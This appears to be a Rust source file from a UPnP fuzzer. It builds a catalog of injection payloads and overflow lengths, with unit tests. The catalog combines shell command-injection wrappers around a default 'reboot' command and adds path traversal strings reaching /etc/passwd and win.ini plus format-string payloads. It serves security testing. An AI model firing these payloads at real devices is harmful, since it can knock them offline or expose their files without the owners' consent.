// Payload building blocks for the injection and overflow strategies.

use crate::error::{UpnpFuzzError, UpnpFuzzResult};

static ENCLOSURES: &[(&[u8], &[u8])] = &[
    (b"", b""),
    (b"`", b"`"),
    (b"$(", b")"),
    (b";", b";"),
    (b"|", b""),
];

static DELIMITERS: &[&[u8]] = &[
    b"", b"`", b";", b"\"", b"'", b"|", b"&", b"&&", b")", b"\r", b"\n", b"%0a", b"%0d",
];

static PATH_TRAVERSALS: &[&[u8]] = &[
    b"../../../../../../../../etc/passwd",
    b"..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    b"....//....//....//....//etc/passwd",
    b"/etc/passwd%00",
    b"..\\..\\..\\..\\..\\windows\\win.ini",
];

static FORMAT_STRINGS: &[&[u8]] = &[
    b"%s%s%s%s%s%s%s%s",
    b"%n%n%n%n%n%n",
    b"%x%x%x%x%x%x%x%x",
    b"%p%p%p%p%p%p",
    b"%99999999s",
];

#[derive(Debug, Clone, PartialEq, Eq)]
/// Fixed list of values the injection strategy draws from
pub struct InjectionCatalog {
    payloads: Vec<Vec<u8>>,
}

impl InjectionCatalog {
    /// Builds the catalog around the given command: every enclosure combined with every
    /// delimiter, followed by path traversal and format string payloads.
    #[must_use]
    pub fn for_command(cmd: &[u8]) -> Self {
        let mut payloads: Vec<Vec<u8>> = vec![];
        for (left, right) in ENCLOSURES {
            for delimiter in DELIMITERS {
                let payload = [*left, cmd, *right, *delimiter].concat();
                if !payloads.contains(&payload) {
                    payloads.push(payload);
                }
            }
        }
        payloads.extend(PATH_TRAVERSALS.iter().map(|p| p.to_vec()));
        payloads.extend(FORMAT_STRINGS.iter().map(|p| p.to_vec()));
        Self { payloads }
    }

    /// Uses a custom list of payloads
    /// # Errors
    /// Returns a configuration error if the list is empty.
    pub fn new(payloads: Vec<Vec<u8>>) -> UpnpFuzzResult<Self> {
        if payloads.is_empty() {
            return Err(UpnpFuzzError::config("the injection catalog must not be empty"));
        }
        Ok(Self { payloads })
    }

    /// Number of payloads
    #[must_use]
    pub fn len(&self) -> usize {
        self.payloads.len()
    }

    /// Returns true if the catalog has no payloads
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.payloads.is_empty()
    }

    /// Returns the payload at `index` wrapping around
    #[must_use]
    pub fn get(&self, index: usize) -> &[u8] {
        &self.payloads[index % self.payloads.len()]
    }

    /// Returns true if `value` is one of the payloads
    #[must_use]
    pub fn contains(&self, value: &[u8]) -> bool {
        self.payloads.iter().any(|p| p == value)
    }
}

impl Default for InjectionCatalog {
    fn default() -> Self {
        Self::for_command(b"reboot")
    }
}

/// Boundary lengths used by the overflow strategy: empty, a single byte, every power of two
/// up to `max` together with its neighbours, and `max` itself. No length exceeds `max`.
#[must_use]
pub fn overflow_lengths(max: usize) -> Vec<usize> {
    let mut lengths = vec![0, 1];
    if max == 0 {
        lengths.truncate(1);
        return lengths;
    }
    let mut power: usize = 2;
    while power <= max {
        lengths.extend([power - 1, power, power.saturating_add(1)]);
        match power.checked_mul(2) {
            Some(next) => power = next,
            None => break,
        }
    }
    lengths.push(max);
    lengths.retain(|len| *len <= max);
    lengths.sort_unstable();
    lengths.dedup();
    lengths
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_catalog_contains_classic_injections() {
        let catalog = InjectionCatalog::default();
        assert!(catalog.contains(b"$(reboot)"));
        assert!(catalog.contains(b"`reboot`;"));
        assert!(catalog.contains(b";reboot;%0a"));
        assert!(catalog.contains(b"|reboot&&"));
        assert!(catalog.contains(b"%n%n%n%n%n%n"));
        assert!(!catalog.contains(b"reboot now"));
    }

    #[test]
    fn test_catalog_has_no_duplicates() {
        let catalog = InjectionCatalog::for_command(b"id");
        for i in 0..catalog.len() {
            for j in (i + 1)..catalog.len() {
                assert_ne!(catalog.get(i), catalog.get(j));
            }
        }
    }

    #[test]
    fn test_empty_custom_catalog_is_rejected() {
        assert!(InjectionCatalog::new(vec![]).is_err());
        assert_eq!(InjectionCatalog::new(vec![b"x".to_vec()]).map(|c| c.len()).ok(), Some(1));
    }

    #[test]
    fn test_overflow_lengths() {
        assert_eq!(overflow_lengths(0), vec![0]);
        assert_eq!(overflow_lengths(1), vec![0, 1]);
        assert_eq!(overflow_lengths(8), vec![0, 1, 2, 3, 4, 5, 7, 8]);
        assert_eq!(overflow_lengths(10), vec![0, 1, 2, 3, 4, 5, 7, 8, 9, 10]);
        let lengths = overflow_lengths(8192);
        assert!(lengths.contains(&4095));
        assert!(lengths.contains(&4097));
        assert_eq!(lengths.last(), Some(&8192));
    }
}
